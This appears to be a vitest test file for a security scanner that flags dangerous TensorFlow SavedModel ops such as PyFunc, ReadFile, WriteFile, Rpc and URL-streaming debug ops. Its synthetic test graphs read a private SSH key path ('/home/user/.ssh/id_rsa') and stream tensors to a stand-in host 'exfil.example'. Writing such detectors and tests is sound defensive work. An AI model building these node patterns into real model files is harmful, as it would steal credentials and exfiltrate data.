import { describe, expect, it } from 'vitest';
import { bufferSource } from '../../../src/core/byte-source.js';
import detector, { TF_DETAIL_OPS } from '../../../src/detectors/model/savedmodel-ops.js';
import { readTensorflowGraph } from '../../../src/readers/protobuf/index.js';
import { buildGraphDef, buildSavedModel, pb, SAVER_FUNCTION, tfAttr, type TfNodeSpec } from '../../builders/protobuf.js';
import { brief, runDetector } from '../detector-tester.js';

const findings = (bytes: Buffer, kind: 'saved-model' | 'graph-def' = 'saved-model') => {
  const graph = readTensorflowGraph(bufferSource(bytes), kind);
  if (!graph.ok) throw new Error(graph.error.message);
  return runDetector(detector, { graph: graph.value, size: bytes.length });
};
const run = (bytes: Buffer, kind?: 'saved-model' | 'graph-def') => brief(findings(bytes, kind));
const BENIGN: TfNodeSpec[] = [
  { name: 'x', op: 'Placeholder' },
  { name: 'w', op: 'VarHandleOp' },
  { name: 'mm', op: 'MatMul', inputs: ['x', 'w'] },
  { name: 'call', op: 'StatefulPartitionedCall', inputs: ['mm'] },
];
const withOp = (op: string, where: 'graph' | 'function') =>
  buildSavedModel({
    metaGraphs: [where === 'graph' ? { nodes: [...BENIGN, { name: 'evil', op }], functions: [SAVER_FUNCTION] } : { nodes: BENIGN, functions: [SAVER_FUNCTION, { name: '__inference_call_77', nodes: [{ name: 'evil', op }] }] }],
  });

describe('model/savedmodel-ops: a benign graph is one info finding', () => {
  it('a serving graph plus the saver function (SaveV2, MergeV2Checkpoints) stays info', () => {
    const result = findings(buildSavedModel({ metaGraphs: [{ nodes: BENIGN, functions: [SAVER_FUNCTION, { name: '__inference__traced_restore_90', nodes: [{ name: 'RestoreV2', op: 'RestoreV2' }] }] }] }));
    expect(brief(result)).toEqual(['graphSummary:info']);
    expect(result[0]?.evidence.details).toMatchObject({ nodes: 9, functions: 2, metaGraphs: 1 });
  });
  it('a TF1 saver scope (save/SaveV2) in the top-level graph stays info', () => {
    expect(run(buildGraphDef({ nodes: [...BENIGN, { name: 'save/SaveV2', op: 'SaveV2' }, { name: 'save_1/RestoreV2', op: 'RestoreV2' }] }), 'graph-def')).toEqual(['graphSummary:info']);
  });
});

describe('model/savedmodel-ops: Python-calling ops are critical, file ops high', () => {
  const cases: [string, string, string][] = [
    ['tf.py_function (EagerPyFunc)', 'EagerPyFunc', 'critical'],
    ['tf.numpy_function / py_func (PyFunc)', 'PyFunc', 'critical'],
    ['stateless py_func', 'PyFuncStateless', 'critical'],
    ['ReadFile: leaks a file into the output', 'ReadFile', 'high'],
    ['WriteFile: drops a payload', 'WriteFile', 'high'],
    ['MatchingFiles: lists the file system', 'MatchingFiles', 'high'],
    ['a text-file lookup table initializer', 'InitializeTableFromTextFileV2', 'high'],
    ['an RPC op', 'Rpc', 'high'],
    ['a debug op streaming to a URL', 'DebugIdentityV2', 'medium'],
    ['a checkpoint write outside the saver', 'SaveV2', 'low'],
  ];
  it.each(cases)('%s in the top-level graph', (_name, op, severity) => {
    expect(run(withOp(op, 'graph'))).toEqual([`dangerousOp:${severity}`]);
  });
  it.each(cases)('%s in a function body', (_name, op, severity) => {
    expect(run(withOp(op, 'function'))).toEqual([`dangerousOp:${severity}`]);
  });
  it('evidence names the op, the node and the function', () => {
    const [finding] = findings(withOp('EagerPyFunc', 'function'));
    expect(finding?.evidence).toMatchObject({ match: 'EagerPyFunc', rule: 'python', details: { op: 'EagerPyFunc', node: 'evil', function: '__inference_call_77', metaGraph: 0, tags: 'serve' } });
    expect(finding?.message).toContain('__inference_call_77');
  });
  it('ops in a second meta graph and in a frozen GraphDef are found', () => {
    expect(run(buildSavedModel({ metaGraphs: [{ nodes: BENIGN }, { tags: ['train'], nodes: [{ name: 'w', op: 'WriteFile' }] }] }))).toEqual(['dangerousOp:high']);
    expect(run(buildGraphDef({ nodes: [{ name: 'p', op: 'PyFunc' }] }), 'graph-def')).toEqual(['dangerousOp:critical']);
  });
  it('many nodes of one op are capped and the rest counted', () => {
    const nodes = Array.from({ length: 30 }, (_, i) => ({ name: `r${i}`, op: 'ReadFile' }));
    const result = brief(findings(buildSavedModel({ metaGraphs: [{ nodes }] })));
    expect(result.filter((f) => f === 'dangerousOp:high')).toHaveLength(25);
    expect(result).toContain('moreOps:high');
  });
  it('a graph cut short is medium, keeping the ops found before', () => {
    const bytes = Buffer.concat([withOp('PyFunc', 'graph'), pb.message(2, [pb.lying(2, 40)])]);
    expect(run(bytes)).toEqual(['dangerousOp:critical', 'incomplete:medium']);
  });
});

describe('model/savedmodel-ops: the arguments of a flagged op are evidence', () => {
  const withDetail = (nodes: TfNodeSpec[]) => {
    const graph = readTensorflowGraph(bufferSource(buildSavedModel({ metaGraphs: [{ nodes, functions: [SAVER_FUNCTION] }] })), 'saved-model', undefined, TF_DETAIL_OPS);
    if (!graph.ok) throw new Error(graph.error.message);
    return runDetector(detector, { graph: graph.value, size: 0 });
  };
  it('a PyFunc names the token of the Python function it calls', () => {
    const [finding] = withDetail([...BENIGN, { name: 'py', op: 'PyFunc', inputs: ['x'], attrs: { token: tfAttr.s('pyfunc_3'), Tin: tfAttr.types([1]), Tout: tfAttr.types([1]) } }]);
    expect(finding?.message).toContain('token="pyfunc_3"');
    expect(finding?.message).not.toContain('Tin=');
    expect(finding?.evidence.details).toMatchObject({ attrs: 'Tin=[DT_FLOAT]; Tout=[DT_FLOAT]; token="pyfunc_3"', inputs: 'x' });
    expect(finding?.evidence.excerpt).toBe('pyfunc_3');
  });
  it('a ReadFile names the file its Const input holds', () => {
    const [finding] = withDetail([
      ...BENIGN,
      { name: 'leak/filename', op: 'Const', attrs: { dtype: tfAttr.type(7), value: tfAttr.stringTensor(['/home/user/.ssh/id_rsa']) } },
      { name: 'leak', op: 'ReadFile', inputs: ['leak/filename'] },
    ]);
    expect(finding?.severity).toBe('high');
    expect(finding?.message).toContain('input "leak/filename" is the constant "/home/user/.ssh/id_rsa"');
    expect(finding?.evidence).toMatchObject({ excerpt: '/home/user/.ssh/id_rsa', details: { constInputs: 'leak/filename=["/home/user/.ssh/id_rsa"]' } });
  });
  it('a debug op names the URLs it streams tensors to', () => {
    const [finding] = withDetail([...BENIGN, { name: 'dbg', op: 'DebugIdentityV2', inputs: ['mm'], attrs: { debug_urls: tfAttr.strings(['grpc://exfil.example:6064']), T: tfAttr.type(1) } }]);
    expect(finding?.message).toContain('debug_urls=["grpc://exfil.example:6064"]');
  });
  it('a ReadFile whose path is computed at run time (no Const) shows its inputs only, and a benign graph stays info', () => {
    const [finding] = withDetail([...BENIGN, { name: 'r', op: 'ReadFile', inputs: ['StringJoin'] }]);
    expect(finding?.message).toMatch(/in the top-level graph \(meta graph 0\)$/);
    expect(finding?.evidence.details).toMatchObject({ inputs: 'StringJoin' });
    expect(brief(withDetail(BENIGN))).toEqual(['graphSummary:info']);
  });
});

describe('model/savedmodel-ops: a frozen graph cut between nodes still parses, but lacks its versions field', () => {
  const frozen = buildGraphDef({ nodes: BENIGN });
  it('a GraphDef without versions (TensorFlow writes it last) is medium', () => {
    // buildGraphDef ends with versions{producer: 1087}: 5 bytes.
    const cut = frozen.subarray(0, frozen.length - 5);
    expect(run(cut, 'graph-def')).toEqual(['noVersions:medium']);
  });
  it('the complete GraphDef stays info, and a SavedModel is not asked for it', () => {
    expect(run(frozen, 'graph-def')).toEqual(['graphSummary:info']);
    expect(run(buildSavedModel({ metaGraphs: [{ nodes: BENIGN }] }))).toEqual(['graphSummary:info']);
  });
});
